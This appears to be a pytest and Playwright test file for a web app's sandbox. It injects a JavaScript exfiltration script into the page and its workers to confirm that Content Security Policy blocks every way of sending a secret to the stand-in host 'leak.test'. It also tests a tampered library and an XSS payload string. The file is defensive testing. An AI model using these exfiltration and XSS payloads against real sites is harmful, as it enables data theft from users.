"""What hostile code could try from inside the page and its workers: each way out is shut, and the browser says so.

The attack is served as part of the page, with a manifest that vouches for it, as if a dependency had been subverted:
code that a test injects would not be under the page's policy.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from e2e.browsing import PATIENCE, Visit
from e2e.conftest import Visiting
from e2e.website import HOST, Website, serving, tampered
from playwright.sync_api import expect

ELSEWHERE = "leak.test"
SECRET = "Quartermain"
BLOCKED = (r"Content Security Policy", r"violates the following", r"Failed to (load|fetch)", r"net::ERR", r"blocked")
OWN_SOCKET = rf"WebSocket connection to 'ws://{HOST}:\d+/\S*' failed"
"""Until the first reload only the meta policy is there, and its ``'self'`` lets a socket try the page's own host."""

WORKERS = ("python-worker.js", "model-worker.js")

ATTACK = """
(async () => {
const here = self.location.origin.replace("http:", "ws:");
const out = "%(elsewhere)s/?%(secret)s";
const event = (target, good = "load", bad = "error") => new Promise((resolve) => {
  target["on" + good] = () => resolve("open");
  target["on" + bad] = () => resolve("shut");
});
const element = (name, attributes) => {
  const made = Object.assign(document.createElement(name), attributes);
  const done = event(made);
  document.head.append(made);
  return done;
};
const settled = (promise) => promise.then(() => "open", () => "shut");
const ways = {
  fetch: () => settled(fetch("http://" + out)),
  post: () => settled(fetch("http://" + out, { method: "POST", body: "%(secret)s", mode: "no-cors" })),
  home: () => settled(fetch(new URL("collect", self.location.href), { method: "POST", body: "%(secret)s" })),
  socket: () => event(new WebSocket("ws://" + out), "open"),
  homeSocket: () => event(new WebSocket(here + "/?%(secret)s"), "open"),
  events: () => event(new EventSource("http://" + out), "open"),
  module: () => settled(import("http://" + out)),
  request: () => {
    const made = new XMLHttpRequest();
    made.open("GET", "http://" + out);
    made.send();
    return event(made);
  },
  evaluation: () => settled(Promise.resolve().then(() => (0, eval)("1"))),
};
const pageWays = {
  image: () => event(Object.assign(new Image(), { src: "http://" + out })),
  script: () => element("script", { src: "http://" + out }),
  inline: () => new Promise((resolve) => {
    document.head.append(Object.assign(document.createElement("script"), { textContent: "self.ran = true" }));
    resolve(self.ran ? "open" : "shut");
  }),
  style: () => element("link", { rel: "stylesheet", href: "http://" + out }),
  blobWorker: () => event(new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))), "message"),
};
const outcome = {};
const seen = [];
self.addEventListener("securitypolicyviolation", (e) => seen.push(e.effectiveDirective));
for (const [name, way] of Object.entries(self.document ? { ...ways, ...pageWays } : ways)) {
  const silence = new Promise((resolve) => setTimeout(resolve, 10_000, "shut"));
  try { outcome[name] = await Promise.race([way(), silence]); } catch { outcome[name] = "shut"; }
}
if (self.document) navigator.sendBeacon("http://" + out, "%(secret)s");
const told = { place: self.location.pathname, outcome, seen };
const channel = new BroadcastChannel("attack");
channel.onmessage = ({ data }) => data === "again" && channel.postMessage(told);
channel.postMessage(told);
})();
""" % {"elsewhere": ELSEWHERE, "secret": SECRET}  # noqa: UP031 - the script is full of braces

LISTEN = """
const told = (window.attacks = {});
const ear = new BroadcastChannel("attack");
ear.onmessage = ({ data }) => { if (data.place) told[data.place.split("/").at(-1) || "page"] = data; };
setInterval(() => ear.postMessage("again"), 500);
"""


@pytest.fixture
def subverted(dist: Path) -> Iterator[Website]:
    """The page with the attack at the end of its own module, and at the head of both workers."""
    attack = ATTACK.encode()
    changed = {name: (dist / name).read_bytes() + b"\n" + attack for name in WORKERS}
    changed["app.js"] = (dist / "app.js").read_bytes() + b"\n" + LISTEN.encode() + attack
    with serving(Website(dist, faults=tampered(dist, changed))) as website:
        yield website


def test_code_inside_the_page_and_its_workers_finds_no_way_out(visiting: Visiting, subverted: Website) -> None:
    visit = visiting(subverted, proxy={"server": subverted.proxy})
    visit.expected += [*BLOCKED, OWN_SOCKET]
    visit.open()
    visit.wait_until_ready()
    subverted.requests.clear()
    visit.page.reload()  # from here on under the service worker's walls, however slow the first visit was
    visit.wait_until_ready()
    told = reports(visit)
    for place, attack in told.items():
        ways_out = [way for way, result in attack["outcome"].items() if result != "shut"]
        assert ways_out == [], place
        assert "connect-src" in attack["seen"], place
    updates = (f"{subverted.subpath}build.json", f"{subverted.subpath}service-worker.js")
    own = (subverted.subpath, f"{HOST}:")
    heard = [path for path in subverted.requests if path.startswith(own) or ELSEWHERE in path or SECRET in path]
    assert [path for path in heard if path not in updates] == []


def reports(visit: Visit) -> dict[str, Any]:
    """What came of the attack in the page and in both workers, once all of them are through with it."""
    places = {"page", *WORKERS}
    script = (
        "async count => { while (Object.keys(window.attacks).length < count)"
        " await new Promise(resolve => setTimeout(resolve, 200)); return window.attacks; }"
    )
    told: dict[str, Any] = visit.page.evaluate(script, len(places))
    assert set(told) == places
    return told


def test_changed_bytes_that_the_manifest_does_not_name_are_not_run(visiting: Visiting, dist: Path) -> None:
    """One byte of a library is changed on its way: the core is not started with it."""
    library = "vendor/pyodide/pyodide.asm.js"
    with serving(Website(dist, faults={library: (dist / library).read_bytes() + b"\n"})) as website:
        visit = visiting(website)
        visit.expected += [r"status of 50\d", r"Failed to (load|fetch)", r"Pyodide", r"pyodide"]
        visit.open()
        expect(visit.page.get_by_role("alert")).to_contain_text("Nothing can be sanitized", timeout=PATIENCE)


HOSTILE = (
    "<script>document.title = 'owned'</script><img src=x onerror=\"document.title = 'owned'\">"
    "<a href=\"javascript:document.title='owned'\">[P1]</a> ![x](http://leak.test/[P1]) "
    '[click](http://leak.test/?[P1]) <iframe src="http://leak.test/[P1]"></iframe> __proto__ constructor'
)


def test_a_hostile_reply_is_text_and_takes_no_value_out(visit: Visit, website: Website) -> None:
    visit.write("Write to Ngozi Adeyemi, ngozi@example.org, about the boiler.")
    visit.copy.click()
    website.requests.clear()
    visit.requests.clear()
    visit.reply.fill(HOSTILE)
    expect(visit.restored).to_contain_text("<script>document.title = 'owned'</script>")
    assert visit.page.title() == "PromptGraph"
    inside = visit.restored.locator("script, img, a, iframe, style, object, embed, form, svg")
    assert inside.count() == 0
    addresses = [word for word in visit.restored.inner_text().split() if "leak.test" in word]
    assert addresses
    assert not [word for word in addresses if "Ngozi" in word or "Adeyemi" in word or "ngozi" in word]
    assert website.requests == []
    assert visit.requests == []
